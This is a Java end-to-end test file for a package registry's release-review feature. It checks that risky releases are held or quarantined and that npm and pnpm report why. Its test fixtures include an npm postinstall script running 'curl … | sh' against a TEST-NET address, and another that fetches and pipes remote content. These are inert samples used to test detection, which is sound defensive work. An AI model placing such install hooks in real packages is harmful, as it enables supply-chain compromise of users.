package dev.warden.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.server.testing.Authenticator;
import dev.warden.server.testing.Http;
import dev.warden.server.testing.TestServer;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * A package's own review policy and a quarantined first release, with the real npm CLI: a policy
 * that holds at medium holds a release the registry alone would only flag (npm prints why; npm
 * stage approve releases it), a looser policy is refused naming the registry's threshold, and
 * {@code npm install} of a new package whose first release is quarantined prints why and where to
 * appeal instead of "not found" (pnpm reports the refusal without crashing).
 *
 * <p>The payloads are inert: they name only TEST-NET addresses, and nothing here runs them (npm
 * installs with {@code --ignore-scripts}).
 */
class ReviewPolicyCliTest {

    static TestServer server;

    @BeforeAll
    static void start() throws Exception {
        server = TestServer.start();
    }

    @AfterAll
    static void stop() throws Exception {
        server.close();
    }

    record Maintainer(String name, String token, Map<String, String> env, Authenticator app) {}

    static Maintainer maintainer(Path dir, String name) throws Exception {
        Path home = Files.createDirectories(dir.resolve(name));
        String token = server.token(name);
        Clients.login(home, server.url(), token);
        return new Maintainer(
                name,
                token,
                Clients.env(home, server.url()),
                server.enableTwoFactor(name, token, "auth-only"));
    }

    static Path release(Path dir, String pkg, String version, Map<String, String> files)
            throws Exception {
        return Clients.writePackage(
                dir.resolve(pkg + "-" + version),
                "{\"name\":\"" + pkg + "\",\"version\":\"" + version + "\"}",
                files);
    }

    /** An update that starts a process: the review finds child-process, medium: a flag. */
    static Map<String, String> startsAProcess(String version) {
        return Map.of(
                "index.js",
                "const cp = require('child_process');\n"
                        + "module.exports = () => cp.execFileSync('git', ['--version']) + '"
                        + version
                        + "';\n");
    }

    static Path project(Path dir, String name) throws Exception {
        return Clients.writePackage(
                dir.resolve(name),
                "{\"name\":\"" + name + "\",\"version\":\"1.0.0\",\"private\":true}",
                Map.of());
    }

    static Http.Result setPolicy(Maintainer m, String pkg, String policy) throws Exception {
        return server.http()
                .send(
                        "PUT",
                        "/-/package/" + pkg + "/governance",
                        m.token(),
                        policy.getBytes(StandardCharsets.UTF_8),
                        Map.of("Content-Type", "application/json", "npm-otp", m.app().next()));
    }

    @Test
    void aPackagePolicyHoldsWhatTheRegistryWouldOnlyFlagUntilItsMaintainerApproves(
            @TempDir Path dir) throws Exception {
        Maintainer pia = maintainer(dir, "rp-pia");
        for (String pkg : new String[] {"rp-plain", "rp-strict"}) {
            Clients.npm(
                            release(dir, pkg, "1.0.0", Map.of("index.js", "module.exports = 1;\n")),
                            pia.env(),
                            "publish")
                    .ok();
        }
        Http.Result set = setPolicy(pia, "rp-strict", "{\"review\": {\"holdAt\": \"medium\"}}");
        assertThat(set.status()).as(set.body()).isEqualTo(200);

        // without a policy of its own, the same change goes live (flagged)
        Clients.Run plain =
                Clients.npm(
                                release(dir, "rp-plain", "1.1.0", startsAProcess("1.1.0")),
                                pia.env(),
                                "publish",
                                "--loglevel=notice")
                        .ok();
        assertThat(plain.all()).doesNotContain("held").contains("+ rp-plain@1.1.0");

        Clients.Run held =
                Clients.npm(
                                release(dir, "rp-strict", "1.1.0", startsAProcess("1.1.0")),
                                pia.env(),
                                "publish",
                                "--loglevel=notice")
                        .ok();
        assertThat(held.all())
                .as("npm prints the reason")
                .contains("rp-strict@1.1.0 is held for maintainer approval")
                .contains("[child-process]");
        Matcher id = Pattern.compile("staged as ([0-9a-f-]{36})").matcher(held.all());
        assertThat(id.find()).as(held.all()).isTrue();

        Path app = project(dir, "strict-app");
        Clients.Run refused =
                Clients.npm(app, pia.env(), "install", "--ignore-scripts", "rp-strict@1.1.0");
        assertThat(refused.exit()).isNotZero();
        assertThat(refused.all()).contains("No matching version found for rp-strict@1.1.0");
        assertThat(Clients.npm(dir, pia.env(), "stage", "view", id.group(1)).ok().out())
                .contains("reviewPolicy: default+package")
                .contains("child-process (medium, hold)");

        Clients.Run policy =
                TransparencyLogTest.java(
                        dir,
                        "governance",
                        "policy",
                        "rp-strict",
                        "--registry=" + server.url(),
                        "--token=" + pia.token());
        assertThat(policy.exit()).as(policy.all()).isZero();
        assertThat(policy.out())
                .contains("rp-strict  policy version 1")
                .contains("release review: hold at medium (the registry's where stricter)");

        Clients.npm(dir, pia.env(), "stage", "approve", id.group(1), "--otp=" + pia.app().next())
                .ok();
        Clients.npm(app, pia.env(), "install", "--ignore-scripts", "rp-strict@1.1.0").ok();
        assertThat(Files.readString(app.resolve("node_modules/rp-strict/index.js")))
                .contains("child_process");
    }

    @Test
    void aPolicyLaxerThanTheRegistrysIsRefusedNamingTheRegistrysThreshold(@TempDir Path dir)
            throws Exception {
        Maintainer lou = maintainer(dir, "rp-lou");
        Clients.npm(
                        release(
                                dir,
                                "rp-lax",
                                "1.0.0",
                                Map.of("index.js", "module.exports = 1;\n")),
                        lou.env(),
                        "publish")
                .ok();

        Http.Result laxer =
                setPolicy(
                        lou,
                        "rp-lax",
                        "{\"review\": {\"quarantineAt\": \"critical\", \"holdAt\": \"critical\"}}");

        assertThat(laxer.status()).isEqualTo(400);
        assertThat(laxer.error())
                .isEqualTo(
                        "review.holdAt \"critical\" is laxer than the registry's review.hold_at"
                                + " (\"high\"): a package's review thresholds may only be stricter"
                                + " than the registry's");
        assertThat(
                        server.http()
                                .get("/-/package/rp-lax/governance")
                                .json()
                                .path("policy")
                                .has("review"))
                .as("nothing changed")
                .isFalse();
        // and a release the registry holds is still held
        Clients.Run held =
                Clients.npm(
                                Clients.writePackage(
                                        dir.resolve("rp-lax-1.1.0"),
                                        "{\"name\":\"rp-lax\",\"version\":\"1.1.0\",\"scripts\":{\"postinstall\":\"node"
                                            + " setup.js\"}}",
                                        Map.of(
                                                "index.js",
                                                "module.exports = 2;\n",
                                                "setup.js",
                                                "require('https').get('https://192.0.2.1/x', r =>"
                                                        + " r.pipe(process.stdout));\n")),
                                lou.env(),
                                "publish",
                                "--loglevel=notice")
                        .ok();
        assertThat(held.all()).contains("rp-lax@1.1.0 is held for maintainer approval");
    }

    @Test
    void npmInstallOfANewPackageWhoseFirstReleaseIsQuarantinedPrintsWhyAndWhereToAppeal(
            @TempDir Path dir) throws Exception {
        Maintainer nia = maintainer(dir, "rp-nia");
        Clients.Run published =
                Clients.npm(
                                Clients.writePackage(
                                        dir.resolve("rp-newq"),
                                        "{\"name\":\"rp-newq\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node"
                                            + " setup.js\"}}",
                                        Map.of(
                                                "index.js",
                                                "module.exports = 1;\n",
                                                "setup.js",
                                                "const cp = require('child_process');\n"
                                                        + "cp.exec('curl -s http://192.0.2.1/p.sh"
                                                        + " | sh');\n")),
                                nia.env(),
                                "publish",
                                "--loglevel=notice")
                        .ok();
        Matcher id = Pattern.compile("npm stage approve ([0-9a-f-]{36})").matcher(published.all());
        assertThat(id.find()).as(published.all()).isTrue();
        String why =
                "rp-newq@1.0.0 is quarantined by release review: setup.js, run at install,"
                        + " downloads an executable and runs it [install-downloads-executable]; a"
                        + " maintainer can release it with npm stage approve ";
        String appeal = " / appeal at " + server.url() + "/-/web/package/rp-newq";

        Http.Result packument = server.http().get("/rp-newq");
        assertThat(packument.status()).isEqualTo(403);
        assertThat(packument.error()).isEqualTo(why + id.group(1) + appeal);

        Path app = project(dir, "newq-app");
        for (String spec : new String[] {"rp-newq", "rp-newq@1.0.0"}) {
            Clients.Run install = Clients.npm(app, nia.env(), "install", "--ignore-scripts", spec);
            assertThat(install.exit()).isNotZero();
            // npm masks UUIDs in its error output: the stage id is shown as ***
            assertThat(install.all())
                    .as(spec)
                    .contains("403 Forbidden - GET " + server.url() + "/rp-newq - " + why)
                    .contains(appeal)
                    .doesNotContain("404");
        }

        Clients.installOthers();
        Map<String, String> pnpmEnv = new HashMap<>(nia.env());
        pnpmEnv.put("npm_config_store_dir", dir.resolve(".pnpm-store").toString());
        Clients.Run pnpm =
                Clients.node(
                        app,
                        pnpmEnv,
                        Clients.pnpmScript(),
                        "add",
                        "--ignore-scripts",
                        "rp-newq",
                        "--registry",
                        server.url() + "/");
        assertThat(pnpm.exit()).isNotZero();
        assertThat(pnpm.all()).as(pnpm.all()).contains("403").doesNotContain("TypeError");

        // its publisher, the only one who could, releases it with a second factor
        Clients.npm(dir, nia.env(), "stage", "approve", id.group(1), "--otp=" + nia.app().next())
                .ok();
        Clients.npm(app, nia.env(), "install", "--ignore-scripts", "rp-newq").ok();
        assertThat(Files.readString(app.resolve("node_modules/rp-newq/setup.js")))
                .contains("192.0.2.1");
    }
}
